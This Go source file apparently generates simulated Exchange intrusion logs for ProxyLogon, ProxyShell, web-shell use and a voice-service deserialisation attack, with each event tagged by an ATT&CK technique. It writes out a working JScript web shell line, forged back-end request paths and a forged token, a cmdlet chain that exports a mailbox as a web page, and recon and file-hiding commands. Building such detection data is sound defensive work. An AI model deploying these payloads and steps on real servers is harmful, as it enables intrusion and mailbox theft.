package logrange

import (
	"encoding/base64"
	"strings"
	"time"
)

// Intrusions into Exchange.

func exchangePlants() []Plant {
	return []Plant{
		hostile("proxylogon", "ProxyLogon: request forgery, a virtual directory's address that is a script, and the web shell it leaves",
			"T1190 T1505.003", onlyMail, mailLogs, sowProxyLogon),
		hostile("proxyshell", "ProxyShell: path confusion in Autodiscover, a role assignment, and a mailbox exported as a web shell",
			"T1190 T1098 T1505.003 T1070", onlyMail, webAndEvents, sowProxyShell),
		hostile("webshell", "Use of a web shell: requests to an unknown page, and commands under the worker process",
			"T1505.003 T1059.003 T1033 T1069.001 T1069.002 T1057 T1018 T1564.001", onlyMail, webAndEvents, sowWebShell),
		hostile("um-service", "Unified Messaging: an error of deserialisation, and a page written by the voice service",
			"T1190 T1505.003 T1059.003", onlyMail, windowsFormats, sowVoice),
	}
}

const authFolder = exchange + `FrontEnd\HttpProxy\owa\auth\`

// script is the content that makes a virtual directory's address a web shell.
const script = `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["cmd"],"unsafe");}</script>`

func sowProxyLogon(s *sowing) {
	ra := &s.raid
	key := letters(s.rand, 1)
	page := "/ecp/" + key + ".js"
	canary := string(appendHex(nil, s.rand.next(), 10, upperHex)) + "."
	post := func(h *host, stem, anchor, backEnd, query string, status, taken int) {
		h.web.serve(&request{
			method: "POST", stem: stem, from: ra.entry, agent: ra.agent, status: status, taken: taken, protocol: "Ecp", mailbox: anchor,
			hint: "X-BEResource-Cookie", cookie: "Server~" + h.fqdn + "~1941962754", in: 900, out: 2000, backEnd: backEnd, query: query,
			backUser: domainShort + `\` + h.upper + "$",
		})
	}
	forged := func(h *host, path string) string { return "ServerInfo~a]@" + h.fqdn + ":444" + path + "#" }
	s.on(ExchangeServer, 0, "T1190", "Forged request through a script that does not exist reaches Autodiscover at the back end", func(h *host) {
		post(h, page, forged(h, "/autodiscover/autodiscover.xml"), "/autodiscover/autodiscover.xml", "", 200, 310)
	})
	s.on(ExchangeServer, 2*time.Second, "T1190", "Forged request reaches MAPI to learn the administrator's identifier", func(h *host) {
		post(h, page, forged(h, "/mapi/emsmdb/?MailboxId=0a1b2c3d-0000-4000-8000-00000000beef@"+domainDNS), "/mapi/emsmdb/", "MailboxId=0a1b2c3d-0000-4000-8000-00000000beef@"+domainDNS, 200, 210)
	})
	s.on(ExchangeServer, 4*time.Second, "T1190", "Forged logon to the control panel answers 241", func(h *host) {
		post(h, page, forged(h, "/ecp/proxyLogon.ecp"), "/ecp/proxyLogon.ecp", "", 241, 402)
	})
	for i, step := range []struct{ verb, schema, params, what string }{
		{"GetObject", "OABVirtualDirectory", "", "Forged request reads the address book's virtual directory"},
		{"SetObject", "OABVirtualDirectory", ".ExternalUrl='" + script + "'.Identity='1f0b9c3e-6a57-4c53-8d0e-93b5a6c4d210'", "Forged request sets the directory's external address to a script"},
		{"SetObject", "ResetOABVirtualDirectory", ".FilePathName='\\\\127.0.0.1\\c$\\" + strings.TrimPrefix(authFolder, `C:\`) + ra.shell + ".aspx'", "Forged request resets the directory, which saves its settings as a page"},
	} {
		s.on(ExchangeServer, time.Duration(6+3*i)*time.Second, "T1190", step.what, func(h *host) {
			path := "/ecp/DDI/DDIService.svc/" + step.verb + "?msExchEcpCanary=" + canary + "&schema=" + step.schema
			post(h, page, forged(h, path), "/ecp/DDI/DDIService.svc/"+step.verb, "msExchEcpCanary="+canary+"&schema="+step.schema, 200, 2210)
			if step.params == "" {
				return
			}
			cmdlet := "Set-OabVirtualDirectory"
			if step.schema == "ResetOABVirtualDirectory" {
				cmdlet = "Remove-OabVirtualDirectory"
			}
			h.web.ecpCall(cmdlet, step.params, h.win.system(), "/ecp/DDI/DDIService.svc/"+step.verb+"?schema="+step.schema, 310)
		})
	}
	s.on(ExchangeServer, 9*time.Second+500*time.Millisecond, "T1505.003", "Set-OabVirtualDirectory with a script as external address", func(h *host) {
		h.win.ranCmdlet("Set-OabVirtualDirectory", `-ExternalUrl "`+strings.Replace(script, "http://f/", "http://f/#", 1)+`" -Identity "OAB (Default Web Site)"`, h.win.system(), "")
	})
	s.on(ExchangeServer, 12*time.Second+200*time.Millisecond, "T1505.003", "The page is written over the share of the server itself", func(h *host) {
		w := h.win
		w.share(w.self, "127.0.0.1", "C$", `C:\`, strings.TrimPrefix(authFolder, `C:\`)+ra.shell+".aspx", 0x2)
		w.made(w.kernel, say(authFolder+ra.shell+".aspx"))
	})
	s.on(ExchangeServer, 12*time.Second+700*time.Millisecond, "T1505.003", "Remove-OabVirtualDirectory with force, then a new one", func(h *host) {
		h.win.ranCmdlet("Remove-OabVirtualDirectory", `-Identity "EX01\OAB (Default Web Site)" -Force "True"`, h.win.system(), "")
		h.win.ranCmdlet("New-OabVirtualDirectory", `-Server "EX01" -WebSiteName "Default Web Site"`, h.win.system(), "")
	})
}

// system is the machine's own account as Exchange's cmdlets show it.
func (w *windows) system() *account { return w.h.system }

// accessToken is a token as the front end writes it for the back end, in the name of an account; see internal/rpscat.
func accessToken(a *account) string {
	b := []byte("V\x01\x00")
	for _, f := range [...]struct {
		kind byte
		text string
	}{{'T', "Windows"}, {'C', ""}, {'A', "Kerberos"}, {'L', a.domain + `\` + a.name}, {'U', a.sidText}} {
		b = append(b, f.kind, byte(len(f.text)))
		b = append(b, f.text...)
	}
	b = append(b, "G\x01\x00\x00\x00\x07\x00\x00\x00\x08S-1-5-11E\x00\x00\x00\x00"...)
	return base64.StdEncoding.EncodeToString(b)
}

func sowProxyShell(s *sowing) {
	ra := &s.raid
	confused := func(h *host, path, query string, status int) {
		h.web.serve(&request{
			method: "POST", stem: "/autodiscover/autodiscover.json", from: ra.entry, agent: "python-urllib3/1.26.5", status: status, taken: 188, protocol: "Autodiscover",
			query: "@" + ra.domain + path + "?" + query + "&Email=autodiscover/autodiscover.json%3F@" + ra.domain, in: 700, out: 1800, backEnd: path, hint: "ServerVersion~",
			mailbox: "ServerVersion~Version 15.1 (Build 2106.0)", backUser: `NT AUTHORITY\SYSTEM`,
		})
	}
	s.on(ExchangeServer, 0, "T1190", "Confused path reaches the address book at the back end", func(h *host) { confused(h, "/mapi/nspi/", "", 200) })
	s.on(ExchangeServer, 2*time.Second, "T1190", "Confused path reaches MAPI at the back end", func(h *host) { confused(h, "/mapi/emsmdb/", "", 200) })
	for i := range 4 {
		s.on(ExchangeServer, time.Duration(4+2*i)*time.Second, "T1190", "Confused path reaches remote PowerShell with a made-up token", func(h *host) {
			confused(h, "/powershell/", "X-Rps-CAT="+accessToken(h.win.admin), 200)
		})
	}
	run := func(after time.Duration, techniques, what, name, params string) {
		s.on(ExchangeServer, after, techniques, what, func(h *host) { h.win.ranCmdlet(name, params, h.win.admin, "") })
	}
	unc := `\\127.0.0.1\C$\` + strings.TrimPrefix(authFolder, `C:\`) + ra.shell2 + ".aspx"
	run(11*time.Second, "T1098", "An account gets the role that exports mailboxes", "New-ManagementRoleAssignment", `-Role "Mailbox Import Export" -User "`+s.admins[0].name+`"`)
	run(14*time.Second, "T1505.003", "A mailbox is exported to a page of the web site", "New-MailboxExportRequest",
		`-Mailbox "`+s.raid.victim.name+`" -IncludeFolders ("#Drafts#") -ContentFilter "(subject -eq '`+letters(s.rand, 8)+`')" -ExcludeDumpster "True" -FilePath "`+unc+`"`)
	s.on(ExchangeServer, 16*time.Second, "T1505.003", "The mailbox replication service writes a page", func(h *host) {
		h.win.made(h.win.replica, say(authFolder+ra.shell2+".aspx"))
	})
	run(20*time.Second, "T1070", "The export request is removed", "Remove-MailboxExportRequest", `-Identity "`+s.raid.victim.name+`\MailboxExport" -Confirm "False"`)
}

func sowWebShell(s *sowing) {
	ra := &s.raid
	page := "/owa/auth/" + ra.shell + ".aspx"
	ask := func(h *host, method string) {
		h.web.serve(&request{method: method, stem: page, from: ra.entry, agent: "Mozilla/5.0 (Windows NT 6.1) AntSword/2.1", status: 200, taken: 180, protocol: "Owa", in: 220, out: 900})
	}
	s.on(ExchangeServer, 0, "T1505.003", "A page that is none of the product's is asked for and answers", func(h *host) { ask(h, "GET") })
	s.on(ExchangeServer, 300*time.Millisecond, "T1505.003", "ASP.NET compiles the unknown page", func(h *host) {
		h.win.made(h.win.pools[0], say(aspTemp+`owa\8e05b027\e164d61b\`+ra.shell+`.aspx.%{x8}.compiled`))
	})
	for i, c := range []struct {
		p                         *program
		command, technique, about string
	}{
		{pWhoami, "whoami", "T1033", "who it runs as"},
		{pNet, `net group "domain admins" /domain`, "T1069.002", "who administers the domain"},
		{pNet, `net localgroup administrators`, "T1069.001", "who administers the machine"},
		{pTasklist, `tasklist /svc`, "T1057", "what runs"},
		{pPing, `ping -n 1 ` + s.dc, "T1018", "where the domain controller is"},
		{pAttrib, `attrib +h +s +r "` + authFolder + ra.shell + `.aspx"`, "T1564.001", "hides its page"},
	} {
		after := time.Duration(8+11*i) * time.Second
		s.on(ExchangeServer, after, "T1505.003", "A command is posted to the web shell", func(h *host) { ask(h, "POST") })
		s.on(ExchangeServer, after+120*time.Millisecond, "T1505.003 T1059.003 "+c.technique, "The worker process starts a command shell: "+c.about, func(h *host) {
			w := h.win
			shell := w.text(w.pools[0], pCmd, h.system, `c:\windows\system32\inetsrv\`, `"cmd.exe" /c "cd /d "C:\inetpub\wwwroot\"&`+c.command+`&echo [S]&cd&echo [E]"`)
			w.text(shell, c.p, h.system, `C:\inetpub\wwwroot\`, c.command)
		})
	}
}

func sowVoice(s *sowing) {
	s.on(ExchangeServer, 0, "T1190", "The voice service fails to read what it was sent", func(h *host) {
		e := h.win.begin(voiceError)
		e.str("UMWorkerProcess.exe").str("System.InvalidCastException: Unable to cast object of type 'System.Collections.Hashtable' to type 'Microsoft.Exchange.UM.UMCore.PipelineContext'.").put()
	})
	s.on(ExchangeServer, 2*time.Second, "T1505.003", "The voice service writes a page into the web site", func(h *host) {
		h.win.made(h.win.voice, say(`C:\inetpub\wwwroot\aspnet_client\`+h.raid.shell2+`.aspx`))
	})
	s.on(ExchangeServer, 5*time.Second, "T1190 T1059.003", "The voice service starts a command shell", func(h *host) {
		h.win.text(h.win.voice, pCmd, h.system, `C:\Windows\system32\`, `cmd.exe /c dir C:\inetpub\wwwroot\aspnet_client > C:\inetpub\wwwroot\aspnet_client\list.txt`)
	})
}
